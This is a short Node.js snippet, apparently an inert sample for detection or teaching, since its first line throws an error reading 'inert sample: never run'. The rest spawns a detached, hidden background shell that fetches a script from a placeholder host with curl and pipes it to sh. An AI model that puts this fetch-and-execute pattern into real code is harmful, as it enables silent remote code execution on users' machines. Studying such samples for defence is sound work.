throw new Error("inert sample: never run");
const { spawn } = require("child_process");

spawn("sh", ["-c", "nohup curl -s https://marks.example.invalid/a | sh >/dev/null 2>&1 &"], {
  detached: true,
  stdio: "ignore",
  windowsHide: true,
}).unref();
